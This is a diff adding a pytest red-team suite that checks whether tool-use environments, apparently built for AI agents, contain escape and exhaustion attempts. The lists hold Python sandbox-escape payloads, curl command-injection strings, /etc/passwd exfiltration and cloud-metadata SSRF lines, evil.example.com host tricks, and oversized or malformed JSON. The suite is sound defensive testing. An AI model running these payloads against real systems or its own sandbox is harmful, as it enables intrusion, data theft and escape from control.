@@ -1,0 +1,244 @@
+"""The red-team suite: escape and exhaustion attempts in every action language, in every env.
+
+Each attempt runs in a fresh episode of every registered env that speaks its language, in both
+modes, from an empty working directory. It passes when ``step`` returns (no exception) within the
+time limit, with text in the observation space, a registered error category when it errs, a
+reward below 1, no file written and the env still scoring the gold 1 afterwards. The counts are
+printed at the end of the test session (see ``conftest.py``).
+
+A later family adds the attempts of its own language to :data:`ATTACKS`.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import time
+from pathlib import Path
+
+import gymnasium as gym
+import pytest
+from conftest import ENV_IDS, RED_TEAM
+
+from toolgym.envs.protocol import task_env
+from toolgym.tools.errors import CATEGORIES
+
+TIME_LIMIT_S = 2.0
+
+_DEEP = "[" * 3000 + "]" * 3000
+_HOST_W = "https://api.openweathermap.org"
+_HOST_C = "https://api.thecatapi.com"
+_OK_W = f"{_HOST_W}/data/2.5/weather?q=london&appid={{API_KEY}}"
+
+API_PROGRAM = [
+    # imports and code execution
+    "import os",
+    "from os import system",
+    "__import__('os').system('touch pwned')",
+    "import subprocess\nsubprocess.run(['touch', 'pwned'])",
+    "exec(\"open('pwned', 'w')\")",
+    "eval('1 + 1')",
+    "compile('1', 'x', 'exec')",
+    # dunder walks and introspection
+    "API.__class__",
+    "API.__class__.__init__.__globals__",
+    "().__class__.__base__.__subclasses__()",
+    "[].__class__.__mro__",
+    "API.set_location.__self__",
+    "Loc.__init__.__globals__['os']",
+    "x = API\nx.__dict__",
+    "getattr(API, '__class__')",
+    "type(API)",
+    "vars(API)",
+    "dir()",
+    "globals()['__builtins__']",
+    "API._require_buy_or_rent('x')",
+    "API.database",
+    "API.search_criteria.clear()",
+    "API.last_search.listings",
+    "API.set_location.__code__.co_consts",
+    # builtins
+    "__builtins__",
+    "print('hi')",
+    "open('pwned', 'w').write('x')",
+    "breakpoint()",
+    "input()",
+    "exit()",
+    # constructs outside the language
+    "(lambda: 1)()",
+    "[x for x in range(10 ** 9)]",
+    "f'{API}'",
+    "while True:\n    pass",
+    "for i in range(10 ** 9):\n    pass",
+    "def f():\n    f()\nf()",
+    "class A:\n    pass",
+    "with open('pwned', 'w') as f:\n    pass",
+    "try:\n    pass\nexcept Exception:\n    pass",
+    "del API",
+    "API = 1",
+    "if True:\n    API.search()",
+    "async def f():\n    pass",
+    "API.set_location(*['Austin'])",
+    "API.set_location(**{'value': 'Austin'})",
+    "x = API.search\nx()",
+    "API.set_num_beds(API.set_num_beds)",
+    # exhaustion
+    "(" * 200 + "1" + ")" * 200,
+    "x = 1" + " + 1" * 5000,
+    "x = [1] * 10 ** 9",
+    "x = 'a' * 10 ** 9",
+    "x = 10 ** 10 ** 10",
+    "x = " + "[" * 40 + "]" * 40,
+    "a = [" + ", ".join(["1"] * 1000) + "]\nb = [" + ", ".join(["a"] * 1000) + "]",
+    "API.search()\n" * 300,
+    "x = " + "9" * 5000,
+    "x = 1e999",
+    "x = -1e999 * 0",
+    "x = 0 / 0",
+    "x = 1 // 0",
+    "API.set_location('x' * 100)",
+    # Unicode tricks
+    "API.set_location('\u202eAustin')",
+    "API.set_location('Aus\x00tin')",
+    "AP\u200bI.search()",
+    "\u0410PI.search()",
+    "API.set_location('\ud800')",
+    "API.set_location('\U0001f600' * 1000)",
+    "\ufeffAPI.search()",
+]
+
+CURL = [
+    "curl file:///etc/passwd",
+    f"curl -X GET '{_OK_W}' ; touch pwned",
+    f"curl -X GET '{_OK_W}' && touch pwned",
+    f"curl -X GET '{_OK_W}' | sh",
+    f"curl -X GET '{_OK_W}' > pwned",
+    "curl $(touch pwned)",
+    "curl `touch pwned`",
+    "curl ${HOME}",
+    f"curl -o pwned '{_OK_W}'",
+    f"curl -O '{_OK_W}'",
+    f"curl -X POST '{_HOST_C}/v1/votes' -d @/etc/passwd",
+    f"curl -T /etc/passwd '{_HOST_C}/v1/votes'",
+    f"curl -F 'a=@/etc/passwd' '{_HOST_C}/v1/votes'",
+    "curl -K /etc/passwd",
+    f"curl -x http://127.0.0.1:9 '{_OK_W}'",
+    f"curl --unix-socket /var/run/docker.sock '{_OK_W}'",
+    f"curl -c pwned '{_OK_W}'",
+    f"curl -D pwned '{_OK_W}'",
+    "curl https://evil.example.com/",
+    "curl http://127.0.0.1:8080/",
+    "curl http://169.254.169.254/latest/meta-data/",
+    "curl gopher://127.0.0.1:25/",
+    f"curl '{_HOST_W}@evil.example.com/'",
+    f"curl 'https://evil.example.com#@{_HOST_W[8:]}/'",
+    f"curl '{_HOST_W}.evil.example.com/'",
+    "curl --url file:///etc/passwd",
+    f"curl -X GET '{_OK_W}'\ntouch pwned",
+    "curl\x00 -X GET",
+    f"curl -X GET '{_HOST_W}/data/2.5/weather?q=" + "a" * 20000 + "'",
+    "curl -X GET 'http://[::1'",
+    f"curl -X GET '{_HOST_W}\uff20evil.example.com/'",
+    f"curl -X POST '{_HOST_C}/v1/votes' --data '{{\"image_id\": \"\ud800\"}}'",
+    f"curl -H 'Host: evil.example.com' '{_OK_W}'",
+    f"curl -X DELETE '{_HOST_C}/v1/favourites/../../etc/passwd'",
+    f"curl -X TRACE '{_HOST_C}/v1/favourites'",
+    f"curl -X GET '{_HOST_W}/data/2.5/weather?q=" + "%00" * 50 + "&appid={API_KEY}'",
+    f"curl -X GET '{_HOST_W}/data/2.5/weather?lat=1e999&lon=nan&appid={{API_KEY}}'",
+    f"curl -X GET '{_HOST_W}/data/2.5/weather?zip=" + "9" * 5000 + "&appid={API_KEY}'",
+    f"curl -X GET '{_HOST_C}/v1/images/search?limit=" + "9" * 5000 + "'",
+    f"curl -X POST '{_HOST_C}/v1/favourites' --data '" + _DEEP + "'",
+]
+
+JSON_CALLS = [
+    '{"name": "x", "arguments": {"v": ' + _DEEP + "}}",
+    '{"name": "x", "arguments": {"v": ' + "9" * 4400 + "}}",
+    '{"name": "x", "arguments": {"v": ' + json.dumps([[1] * 100] * 100) + "}}",
+    '{"name": "x", "arguments": "' + ("[" * 2000 + "]" * 2000).replace('"', '\\"') + '"}',
+    '{"name": "__class__", "arguments": {}}',
+    '{"name": "API.__init__", "arguments": {}}',
+    '{"name": "_require_buy_or_rent", "arguments": {"name": "x"}}',
+    '{"name": "set_location", "arguments": {"__proto__": {"x": 1}}}',
+    '{"name": "set_location", "arguments": {"value": NaN}}',
+    '{"name": "set_location", "arguments": {"value": Infinity}}',
+    '{"name": "set_location", "arguments": [1, 2, 3]}',
+    '{"name": "set_location", "arguments": "not json"}',
+    '{"name": ["set_location"]}',
+    '{"type": "function", "function": {"function": {"function": {}}}}',
+    '{"name": "set_location", "name": "search", "arguments": {}}',
+    '{"name": "set_location\\u0000", "arguments": {}}',
+    '{"name": "set_location", "arguments": {"value": "\\ud800"}}',
+    '{"name": "set_location", "arguments": {"value": "' + "x" * 15000 + '"}}',
+    "[" + ", ".join(['{"name": "x"}'] * 2000) + "]",
+    "[]",
+    "[1, 2, 3]",
+    '{"name": "add_item", "arguments": {"text": ' + _DEEP + "}}",
+    '{"name": "complete_item", "arguments": {"item_id": 1e999}}',
+    '{"name": "complete_item", "arguments": {"item_id": ' + "9" * 400 + "}}",
+    '{"name": "remove_item", "arguments": {"item_id": -1}}',
+]
+
+ATTACKS: dict[str, list[str]] = {
+    "api_program": API_PROGRAM,
+    "curl": CURL + JSON_CALLS,
+    "json_calls": JSON_CALLS,
+}
+"""Attempts per action language (the REST languages also read JSON calls)."""
+
+assert sum(len(v) for v in (API_PROGRAM, CURL, JSON_CALLS)) >= 100
+
+
+_ENVS: dict[tuple[str, str], gym.Env] = {}
+
+
+def _env(env_id: str, mode: str) -> gym.Env:
+    """One env per id and mode for the whole suite (every attempt starts with a reset)."""
+    if (env_id, mode) not in _ENVS:
+        _ENVS[env_id, mode] = gym.make(env_id, action_mode=mode)
+    return _ENVS[env_id, mode]
+
+
+def _language(env_id: str) -> str:
+    return task_env(_env(env_id, "program")).language.name
+
+
+CASES = [
+    (env_id, mode, i)
+    for env_id in ENV_IDS
+    for mode in ("program", "call")
+    for i in range(len(ATTACKS.get(_language(env_id), [])))
+]
+
+
+@pytest.mark.parametrize(("env_id", "mode", "index"), CASES)
+def test_attack_is_contained(env_id: str, mode: str, index: int, tmp_path: Path) -> None:
+    action = ATTACKS[_language(env_id)][index]
+    env = _env(env_id, mode)
+    env.reset(seed=index)
+    cwd = os.getcwd()
+    os.chdir(tmp_path)
+    RED_TEAM["attempts"] += 1
+    start = time.perf_counter()
+    try:
+        obs, reward, terminated, truncated, info = env.step(action)
+    except Exception:
+        RED_TEAM["uncaught exceptions"] += 1
+        raise
+    finally:
+        os.chdir(cwd)
+    elapsed = time.perf_counter() - start
+    if elapsed > TIME_LIMIT_S:
+        RED_TEAM["hangs"] += 1
+    written = sorted(p.name for p in tmp_path.iterdir())
+    if written or Path("/tmp/pwned").exists():
+        RED_TEAM["escapes"] += 1
+    assert not written, f"the action wrote {written}"
+    assert elapsed <= TIME_LIMIT_S, f"the action ran {elapsed:.1f} s"
+    assert obs in env.observation_space
+    assert reward < 1.0
+    if info["error"] is not None:
+        assert info["error"]["category"] in CATEGORIES
+    # the same env still scores the gold 1
+    env.reset(seed=index)
+    results = [env.step(a) for a in task_env(env).oracle_actions()]
+    assert results[-1][1] == 1.0
